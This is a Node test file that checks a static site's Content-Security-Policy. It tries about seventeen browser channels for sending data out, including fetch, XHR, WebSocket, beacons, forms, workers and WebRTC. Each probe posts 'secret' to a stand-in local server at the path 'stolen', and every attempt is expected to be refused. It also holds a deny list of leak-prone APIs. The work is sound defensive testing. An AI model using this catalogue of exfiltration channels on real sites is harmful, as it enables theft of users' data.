// Nothing is sent anywhere: what the policy says, and what the browser does when the page tries.
//
// In: the built site. Out: refusals. Invariant: a way to send that is not refused here is a hole.

import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { city, complaints, drop, FROM_DISK, launch, run, serve, SITE } from "./site.mjs";

/** Every way a page can send something; each gives "refused", or how it got out. */
async function attempts(address) {
  const outcome = (work) => work().then(() => "sent", () => "refused");
  const element = (tag, attribute) => new Promise((done, fail) => {
    const made = document.createElement(tag);
    made.onload = done;
    made.onerror = fail;
    made.setAttribute(attribute, address);
    if (tag === "link") made.rel = "stylesheet";
    document.body.append(made);
  });
  const violated = (work) => new Promise((done, fail) => {
    document.addEventListener("securitypolicyviolation", () => fail(new Error("refused")), { once: true });
    work();
    setTimeout(done, 1500);
  });
  const inWorker = () => new Promise((done, fail) => {
    const text = `fetch(${JSON.stringify(address)}).then(() => postMessage("sent"), () => postMessage("refused"))`;
    const worker = new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
    worker.onmessage = ({ data }) => (data === "sent" ? done() : fail(new Error(data)));
  });
  return {
    fetch: await outcome(() => fetch(address, { mode: "no-cors" })),
    xhr: await outcome(() => new Promise((done, fail) => {
      const request = new XMLHttpRequest();
      request.onload = done;
      request.onerror = fail;
      request.open("POST", address);
      request.send("secret");
    })),
    socket: await outcome(() => new Promise((done, fail) => {
      const socket = new WebSocket(address.replace("http", "ws"));
      socket.onopen = done;
      socket.onerror = fail;
    })),
    beacon: await outcome(() => violated(() => navigator.sendBeacon(address, "secret"))),
    image: await outcome(() => element("img", "src")),
    script: await outcome(() => element("script", "src")),
    style: await outcome(() => element("link", "href")),
    frame: await outcome(() => violated(() => document.body.append(Object.assign(document.createElement("iframe"), { src: address })))),
    form: await outcome(() => violated(() => {
      const form = Object.assign(document.createElement("form"), { action: address, method: "post" });
      document.body.append(form);
      form.submit();
    })),
    inline: await outcome(() => violated(() => document.body.append(Object.assign(document.createElement("script"), { textContent: "window.ran = 1" })))),
    worker: await outcome(inWorker),
    events: await outcome(() => new Promise((done, fail) => {
      const source = new EventSource(address);
      source.onopen = done;
      source.onerror = fail;
    })),
    module: await outcome(() => import(address)),
    sound: await outcome(() => element("audio", "src")),
    object: await outcome(() => violated(() => document.body.append(Object.assign(document.createElement("object"), { data: address })))),
    prefetch: await outcome(() => violated(() => document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: address })))),
    peer: await outcome(async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: address.replace(/^http:\/\/([^/]+).*/, "stun:$1") }] });
      peer.createDataChannel("secret");
      await peer.setLocalDescription(await peer.createOffer());
    }),
  };
}

describe("the policy", () => {
  let site;
  let elsewhere;
  before(async () => {
    site = await serve();
    elsewhere = await serve();
  });
  after(async () => {
    await site.close();
    await elsewhere.close();
  });

  test("allows scripts and styles beside the page, and no connection", () => {
    const html = readFileSync(join(SITE, "index.html"), "utf8");
    const [, policy] = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html);
    const directives = Object.fromEntries(policy.split("; ").map((directive) => directive.split(/ (.*)/s)));
    assert.equal(directives["default-src"], "'none'");
    assert.equal(directives["connect-src"], "'none'");
    assert.equal(directives["form-action"], "'none'");
    assert.ok(!/https?:|\*|unsafe-inline|'unsafe-eval'/.test(policy), policy);
    assert.ok(html.indexOf("Content-Security-Policy") < html.indexOf("<script"), "the policy stands before any script");
  });

  test("the page's own scripts name no way out that a policy cannot close", () => {
    const script = readFileSync(join(SITE, "assets/index.js"), "utf8");
    for (const way of ["new RTC", "window.open", "location.assign", "location.replace", "location.href=", "WebTransport", "sendBeacon"]) {
      assert.ok(!script.includes(way), `the page's script names ${way}`);
    }
  });

  for (const from of ["a web server", "a folder on disk"]) {
    test(`refuses every way of sending, from ${from}`, async (t) => {
      const browser = await launch(t);
      await browser.page.goto(from === "a web server" ? site.address : FROM_DISK);
      const outcomes = await browser.page.evaluate(attempts, `${elsewhere.address}stolen`);
      assert.deepEqual(Object.entries(outcomes).filter(([, outcome]) => outcome !== "refused"), []);
      assert.deepEqual(elsewhere.asked, []);
    });
  }

  test("is never broken by the site itself, which asks only for its own files", async (t) => {
    const data = city(20, 3);
    site.asked.length = 0;
    const browser = await launch(t);
    const found = complaints(browser.page);
    await browser.page.goto(site.address);
    await drop(browser.page, data.files);
    await run(browser.page);
    await browser.page.click("#tab-list");
    await browser.page.locator("#row-0").click();
    await browser.page.locator("#sentence").waitFor();
    await browser.page.getByRole("link", { name: "规则工坊" }).click();
    await browser.page.locator("#bench-findings").waitFor({ timeout: 60_000 });
    assert.deepEqual(found, []);
    assert.deepEqual(site.asked.filter((path) => !/^\/$|^\/(assets|parts)\/[a-z]+\.(js|css)$/.test(path)), []);
  });
});
